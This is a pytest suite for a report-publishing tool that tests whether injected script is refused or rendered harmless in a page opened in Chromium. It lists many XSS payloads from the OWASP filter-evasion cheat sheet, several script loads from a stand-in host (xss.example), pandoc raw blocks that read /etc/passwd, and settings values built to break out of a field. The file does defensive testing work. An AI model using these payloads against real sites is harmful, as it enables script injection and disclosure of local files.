"""No script reaches the web page, whatever the input: injection payloads over every route, run in Chromium.

The payloads are the ones a reviewer found getting through (raw passages for
pandoc, attribute blocks, a picture's description, settings breaking out of
a link) and a selection of the OWASP XSS filter-evasion cheat sheet, written
out here as data.  Each route is tried: the narrative's Markdown, a
translator's XLIFF target, the settings in ``_quarto.yml``, a CSV text cell
(the glossary), a picture's description.  Every payload is either refused at
its file and line, or published harmless: the page is opened in real
Chromium, every element is sent the events a reader causes (click, hover,
focus, load, error), and no payload may have run.  A last test sends the
payloads to pandoc with no narrative check at all, so the wall after pandoc
(the sanitiser and the Content-Security-Policy) is shown to hold alone.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import sync_playwright

from conftest import assert_user_error, chromium_path, dirreport_here, output_file

SMALL = Path(__file__).parent / "fixtures" / "small"
BUILD = ("--lang", "en", "--format", "html", "--draft")
RUN = "alert(1)"  # what every payload tries to do; a dialog is caught by the browser test

# --- the payloads ---------------------------------------------------------------------------------------------

# Found by the reviewer (issue 26): pandoc's own syntax, which markdown-it does not see.
PANDOC_PAYLOADS = [
    "`<img src=x onerror=alert(1)>`{=html}",
    "```{=html}\n<script>alert(1)</script>\n```",
    "~~~ {=html5}\n<img src=x onerror=alert(1)>\n~~~",
    "```{=openxml}\n<w:p><w:r><w:t>injected</w:t></w:r></w:p>\n```",
    '```{=typst}\n#read("/etc/passwd")\n```',
    "```{=latex}\n\\input{/etc/passwd}\n```",
    '`#read("x")`{=typst}',
    "[Read more]{onclick=alert(1)}",
    '[Read more]{.note onclick="alert(1)"}',
    "## A heading {onmouseover=alert(1)}",
    "::: {onclick=alert(1)}\nA passage.\n:::",
    "[a link](https://example.org){onclick=alert(1)}",
    "![a picture](images/x.svg){onload=alert(1)}",
    '[x]{lang="cy" onfocus="alert(1)" tabindex="1"}',
    '[x]{style="background:url(javascript:alert(1))"}',
    '[x]{onclick="}alert(1)"}',
    "![<img src=x onerror=alert(1)>](images/x.svg)",
    "---\nheader-includes: <script>alert(1)</script>\n---",
]

# A selection of the OWASP XSS filter-evasion cheat sheet, as raw HTML in a narrative.
OWASP_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<a onmouseover="alert(1)">xxs link</a>',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<IMG SRC=# onmouseover="alert(1)">',
    '<IMG SRC= onmouseover="alert(1)">',
    '<IMG onmouseover="alert(1)">',
    '<IMG SRC=/ onerror="alert(1)"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    '&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    '<BODY BACKGROUND="javascript:alert(1)">',
    '<IMG DYNSRC="javascript:alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
    '<IFRAME SRCDOC="&lt;script&gt;alert(1)&lt;/script&gt;"></IFRAME>',
    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
    '<TABLE BACKGROUND="javascript:alert(1)">',
    '<DIV STYLE="background-image: url(javascript:alert(1))">',
    '<DIV STYLE="width: expression(alert(1));">',
    '<BASE HREF="javascript:alert(1);//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,'
    'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
    '<a href="javascript:alert(1)">a link</a>',
    '<a href="&#x6A;avascript:alert(1)">a link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a link</a>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style><img src=x onerror=alert(1)></style>",
    '<span lang="en" onclick="alert(1)">x</span>',
    '<abbr title="x" onmouseover="alert(1)">x</abbr>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<xss onfocus=alert(1) autofocus tabindex=1>",
    "<marquee onstart=alert(1)>",
    "[a link](javascript:alert(1))",
    "[a link](JaVaScRiPt:alert(1))",
    "[a link](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
]

# Settings (``_quarto.yml``) an authority might mistype or an attacker might plant.
SETTING_PAYLOADS = {
    "authority-name": 'Glanafon <img src=x onerror=alert(1)> " onmouseover="alert(1)',
    "title": "Report </title><script>alert(1)</script>",
    "director": 'A Director" onclick="alert(1)" x="',
}
REFUSED_SETTINGS = [
    ('website: "https://example.org/)<img src=x onerror=alert(1)>"', "contact website"),
    ('website: "javascript:alert(1)"', "contact website"),
    ('website: "https://example.org/ onclick=alert(1)"', "contact website"),
    ('website: "https://example.org/\\"><script>alert(1)</script>"', "contact website"),
    ('phone: "01632)<svg/onload=alert(1)>("', "contact phone"),
    ('phone: "01632 960 123\\" onclick=\\"alert(1)"', "contact phone"),
    ('email: "a@b.example)<img src=x onerror=alert(1)>"', "contact email"),
    ('email: "a@b.example?subject=<script>"', "contact email"),
]
# a text cell of a CSV file: the glossary, a case study, a story
CSV_PAYLOAD = (
    "<img src=x onerror=alert(1)> `<b onclick=alert(1)>`{=html} [x]{onclick=alert(1)} <script>alert(1)</script>"
)


IMPROVEMENT_PAYLOAD = "Last year [i]{onclick=alert(1)} said <img src=x onerror=alert(1)>"
OWN_TITLE_PAYLOAD = "Our own [o]{onclick=alert(1)} section <img src=x onerror=alert(1)>"


# --- the browser ----------------------------------------------------------------------------------------------


@dataclass
class Visit:
    dialogs: list[str] = field(default_factory=list)
    refused_inline_script: list[str] = field(default_factory=list)
    report: dict[str, Any] = field(default_factory=dict)


EVENTS = """() => {
  // a reader's every action on every element; navigation held back so the page stays
  document.addEventListener('click', e => e.preventDefault(), true);
  const names = ['click', 'dblclick', 'mouseover', 'mouseenter', 'mousemove', 'mousedown', 'mouseup', 'focus',
                 'focusin', 'blur', 'load', 'error', 'toggle', 'animationstart', 'transitionend', 'input', 'change',
                 'keydown', 'pointerover', 'pointerdown', 'begin', 'start'];
  for (const el of document.querySelectorAll('*')) {
    for (const name of names) {
      try { el.dispatchEvent(new Event(name, {bubbles: true})); } catch (e) {}
    }
    try { if (el.focus) el.focus(); } catch (e) {}
  }
}"""

INVENTORY = """() => {
  const active = /^\\s*(javascript|vbscript|data:text|data:application)/i;
  const onAttributes = [], activeUrls = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (/^on/i.test(attr.name)) onAttributes.push(el.tagName + ' ' + attr.name);
      if (active.test(attr.value.replace(/[\\x00-\\x20]/g, ''))) activeUrls.push(el.tagName + ' ' + attr.name);
    }
  }
  return {
    onAttributes, activeUrls,
    scripts: document.scripts.length,
    embedded: document.querySelectorAll('iframe, frame, object, embed, base, form, input, button').length,
    refresh: document.querySelectorAll('meta[http-equiv]:not([http-equiv="Content-Security-Policy"])').length,
    csp: (document.querySelector('meta[http-equiv="Content-Security-Policy"]') || {}).content || '',
    xss: window.__xss || 0,
    ownScriptRan: window.__own || 0,
    title: document.title,
  };
}"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=chromium_path(), args=["--no-sandbox", "--disable-gpu"])
        yield chromium
        chromium.close()


def visit(browser: Any, page_file: Path) -> Visit:
    """Open the page, act on every element as a reader would, and record anything that ran."""
    seen = Visit()
    context = browser.new_context()
    context.route(re.compile(r"^(?!file:|data:).*"), lambda route: route.abort())  # nothing leaves the machine
    page = context.new_page()

    def dialog(d: Any) -> None:
        seen.dialogs.append(d.message)
        d.dismiss()

    page.on("dialog", dialog)
    page.on(
        "console",
        lambda m: seen.refused_inline_script.append(m.text) if "Refused to execute inline script" in m.text else None,
    )
    page.goto(page_file.as_uri(), wait_until="load")
    page.evaluate(EVENTS)
    page.mouse.move(10, 10)
    page.wait_for_timeout(300)
    seen.report = page.evaluate(INVENTORY)
    context.close()
    return seen


def assert_nothing_ran(seen: Visit, template_scripts: int = 1) -> None:
    report = seen.report
    assert seen.dialogs == [], f"a payload ran: {seen.dialogs}"
    assert report["xss"] == 0, "a payload ran"
    assert report["onAttributes"] == [], report["onAttributes"]
    assert report["activeUrls"] == [], report["activeUrls"]
    assert report["scripts"] == template_scripts, "only the template's own script may be in the page"
    assert report["embedded"] == 0 and report["refresh"] == 0, report
    assert "object-src 'none'" in report["csp"] and "base-uri 'none'" in report["csp"], report["csp"]
    script_src = re.search(r"script-src ([^;]*)", report["csp"])
    assert script_src and re.fullmatch(r"'sha256-[A-Za-z0-9+/=]+'( 'sha256-[A-Za-z0-9+/=]+')*", script_src.group(1))
    # the template's own script is allowed by its hash: the browser refused no inline script
    assert seen.refused_inline_script == [], seen.refused_inline_script


# --- the routes -----------------------------------------------------------------------------------------------


def small_project(tmp_path: Path) -> Path:
    project = tmp_path / "p"
    shutil.copytree(SMALL, project)
    (project / "images").mkdir()
    (project / "images" / "x.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4"/></svg>',
        encoding="utf-8",
    )
    return project


def narrative(paragraphs: list[str]) -> tuple[str, dict[int, int]]:
    """A narrative with each payload as a paragraph of its own; which line each payload starts on."""
    lines = ["---", 'title: "Summary"', "status: final", "---", "", "Our year, in one sentence.", ""]
    starts: dict[int, int] = {}
    for n, text in enumerate(paragraphs):
        starts[n] = len(lines) + 1
        lines += [*text.split("\n"), ""]
    return "\n".join(lines), starts


def build_refusing(project: Path, capsys: pytest.CaptureFixture[str], payloads: list[str]) -> tuple[Path, list[str]]:
    """Build with every payload, taking out those refused at their line; the page built from the rest."""
    target = project / "narratives" / "en" / "1-summary.md"
    target.parent.mkdir(parents=True, exist_ok=True)
    kept, refused = list(payloads), []
    for _attempt in range(4):
        text, starts = narrative(kept)
        target.write_text(text, encoding="utf-8")
        run = dirreport_here(capsys, "build", str(project), *BUILD)
        if run.returncode == 0:
            return output_file(project, "en", "html"), refused
        assert_user_error(run, "narratives/en/1-summary.md:line ")
        assert "internal error" not in run.output, run.output
        lines = {int(n) for n in re.findall(r"narratives/en/1-summary\.md:line (\d+)", run.output)}
        assert lines, run.output
        ends = {n: starts.get(n + 1, 10**9) for n in starts}
        out = {n for n in starts if any(starts[n] <= line < ends[n] for line in lines)}
        assert out, f"refused at lines {sorted(lines)} that hold no payload:\n{run.output}"
        refused += [kept[n] for n in sorted(out)]
        kept = [p for n, p in enumerate(kept) if n not in out]
    pytest.fail("the narrative was still refused after the refused payloads were taken out")


def test_pandoc_syntax_payloads_are_refused_at_their_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Raw passages, attributes, metadata blocks and HTML in a description: each refused, named by file and line."""
    from dirreport.content.narrative import parse

    for payload in PANDOC_PAYLOADS:
        text, starts = narrative([payload])
        _narrative, problems = parse("narratives/en/1-summary.md", text)
        assert problems, f"not refused: {payload!r}"
        assert all(p.file == "narratives/en/1-summary.md" and p.line is not None for p in problems)
        assert any(starts[0] <= (p.line or 0) <= starts[0] + payload.count("\n") for p in problems), payload


def test_safe_attributes_and_text_stay_allowed() -> None:
    """What authors and dirreport itself write is not refused: ids, classes, languages, Quarto's conditions."""
    from dirreport.content.narrative import parse

    text, _starts = narrative(
        [
            "## Shorter waits {#IMP-05}",
            "## Unnumbered {.unnumbered lang=cy}",
            '::: {.content-visible when-format="html"}\nOnly on the web.\n:::',
            '[Croeso]{lang="cy"} and a shortcode {{< metric AD/001 >}} and braces {like this} and \\{onclick=x}.',
            "---",
            "A rule above, then a sentence with: a colon.",
        ]
    )
    _narrative, problems = parse("narratives/en/1-summary.md", text)
    assert [p.located() for p in problems] == []


def test_no_payload_runs_in_the_published_page(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], browser: Any
) -> None:
    """Narrative, settings and a glossary cell together: refused at their line, or published harmless."""
    project = small_project(tmp_path)
    settings = (project / "_quarto.yml").read_text(encoding="utf-8")
    settings = settings.replace(
        "  authority: W06000015\n",
        "  authority: W06000015\n"
        f"  authority-name: {{en: {yaml_quote(SETTING_PAYLOADS['authority-name'])}, cy: Glanafon}}\n"
        f"  title: {{en: {yaml_quote(SETTING_PAYLOADS['title'])}, cy: Adroddiad}}\n",
    ).replace('director: {name: "A Director"}', f"director: {{name: {yaml_quote(SETTING_PAYLOADS['director'])}}}")
    settings += (
        '  contact: {phone: "01632 960 123", email: a@b.example, website: "https://example.org/a?b=c#d"}\n'
        f"  sections: [{{file: 4d-own, in: 4d, title: {{en: {yaml_quote(OWN_TITLE_PAYLOAD)}, cy: Adran}}}}]\n"
    )
    (project / "_quarto.yml").write_text(settings, encoding="utf-8")
    (project / "data" / "glossary.csv").write_text(
        "term_en,term_cy,abbreviation_en,abbreviation_cy,explanation_en,explanation_cy\n"
        f'care plan,cynllun gofal,,,"{CSV_PAYLOAD}","Esboniad"\n',
        encoding="utf-8",
    )
    cell = f'"{CSV_PAYLOAD}"'
    (project / "data" / "case-studies.csv").write_text(
        "id,consent,standards,title_en,title_cy,person_en,person_cy,mattered_en,mattered_cy,did_en,did_cy,"
        "difference_en,difference_cy\n" + ",".join(["CS-01", "yes", "QS1", *[cell] * 10]) + "\n",
        encoding="utf-8",
    )
    (project / "data" / "stories.csv").write_text(
        "id,consent,standards,en,cy,attribution_en,attribution_cy\n"
        + ",".join(["STORY-01", "yes", "QS4", *[cell] * 4])
        + "\n",
        encoding="utf-8",
    )
    (project / "data" / "last-year-improvements.csv").write_text(
        f'id,part,en,cy\nIMP-01,3a,"{IMPROVEMENT_PAYLOAD}",Gwella\n', encoding="utf-8"
    )
    (project / "narratives" / "en").mkdir(parents=True)
    (project / "narratives" / "en" / "3a-iv.md").write_text(
        '---\ntitle: "Progress"\nstatus: final\n---\n\n## Our progress {#IMP-01}\n\nWe did it.\n', encoding="utf-8"
    )
    (project / "narratives" / "en" / "4d-own.md").write_text(
        '---\ntitle: "Own"\nstatus: final\n---\n\nOur own section.\n', encoding="utf-8"
    )
    shortcodes = ["{{< case-study CS-01 >}}", "{{< quote STORY-01 >}}"]
    payloads = ["Every care plan was reviewed.", *shortcodes, *OWASP_PAYLOADS, *PANDOC_PAYLOADS]
    page, refused = build_refusing(project, capsys, payloads)
    assert set(PANDOC_PAYLOADS) <= set(refused), "pandoc's syntax is refused at its line"
    assert not set(shortcodes) & set(refused), "the CSV files' text is printed as text, not refused"
    published = page.read_text(encoding="utf-8")
    assert "Glanafon &lt;img" in published, "the authority's name is printed as text"
    assert "Every care plan was reviewed." in published
    flat = " ".join(published.split())
    assert IMPROVEMENT_PAYLOAD.split("<")[0] in flat, "last year's point is printed as text"
    assert OWN_TITLE_PAYLOAD.split("<")[0] in flat, "a section's own title is printed as text"
    assert published.count("&lt;img src=x onerror=alert(1)&gt; `&lt;b") >= 4, "each CSV cell is printed as text"
    assert_nothing_ran(visit(browser, page))


def yaml_quote(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


@pytest.mark.parametrize(("line", "key"), REFUSED_SETTINGS, ids=[k for _line, k in REFUSED_SETTINGS])
def test_contact_details_that_break_out_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str, key: str
) -> None:
    project = small_project(tmp_path)
    with (project / "_quarto.yml").open("a", encoding="utf-8") as f:
        f.write(f"  contact:\n    {line}\n")
    run = dirreport_here(capsys, "check", str(project))
    assert_user_error(run, "_quarto.yml:line ", key)
    assert run.returncode == 2


def test_a_translated_target_is_checked_like_a_narrative(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A translator's <target> holding a raw passage or script is refused, named by file and unit."""
    project = small_project(tmp_path)
    text, _starts = narrative(["A first paragraph to translate."])
    (project / "narratives" / "en").mkdir(parents=True)
    (project / "narratives" / "en" / "1-summary.md").write_text(text, encoding="utf-8")
    xliff = project / "t.xlf"
    run = dirreport_here(capsys, "translate", "export", str(xliff), "--project", str(project))
    assert run.returncode == 0, run.output
    exported = xliff.read_text(encoding="utf-8")
    for payload in (
        "`&lt;img src=x onerror=alert(1)&gt;`{=html}",
        "[Darllen mwy]{onclick=alert(1)}",
        "&lt;img src=x onerror=alert(1)&gt;",
        "![&lt;img src=x onerror=alert(1)&gt;](images/x.svg)",
        "[dolen](javascript:alert(1))",
    ):
        filled = re.sub(
            r"(<source>A first paragraph to translate\.</source>)(\s*<target>[^<]*</target>)?",
            rf"\1<target>Paragraff cyntaf {payload}</target>",
            exported,
        )
        assert filled != exported
        xliff.write_text(filled, encoding="utf-8")
        run = dirreport_here(capsys, "translate", "import", str(xliff), "--project", str(project))
        assert_user_error(run, "t.xlf:line ", "unit '", "cannot be used")
        assert run.returncode == 2
        assert not (project / "narratives" / "cy" / "1-summary.md").exists()


def test_the_wall_after_pandoc_holds_alone(tmp_path: Path, browser: Any) -> None:
    """Every payload straight to pandoc, no narrative check at all: the sanitiser and the policy stop them."""
    from dirreport.assemble.document import Document
    from dirreport.assemble.metadata import front_matter
    from dirreport.render.common import RenderSettings
    from dirreport.render.html import render
    from dirreport.render.page_safety import with_script

    body = "\n\n".join(["# A report", *PANDOC_PAYLOADS, *OWASP_PAYLOADS]).replace("images/x.svg", "x.svg")
    metadata = {"title": SETTING_PAYLOADS["title"], "subtitle": SETTING_PAYLOADS["authority-name"], "html-lang": "en"}
    document = Document(
        edition="en",
        lang="en",
        basename="page",
        markdown=front_matter(metadata) + body + "\n",
        metadata={**metadata, "logo-alt": SETTING_PAYLOADS["authority-name"], "logo": 'x.svg" onerror="alert(1)'},
        figures=(),
        tables=(),
        resources={},
        draft=False,
    )
    project = small_project(tmp_path)
    work = tmp_path / "work"
    pages = render(document, work, RenderSettings(project, tmp_path / "cache", 0))
    assert_nothing_ran(visit(browser, pages[0]))
    # the live preview adds its reload script: the policy lets that run, and still nothing else
    previewed = tmp_path / "preview.html"
    previewed.write_text(with_script(pages[0].read_text(encoding="utf-8"), "window.__own = 1;"), encoding="utf-8")
    seen = visit(browser, previewed)
    assert_nothing_ran(seen, template_scripts=2)
    assert seen.report["ownScriptRan"] == 1
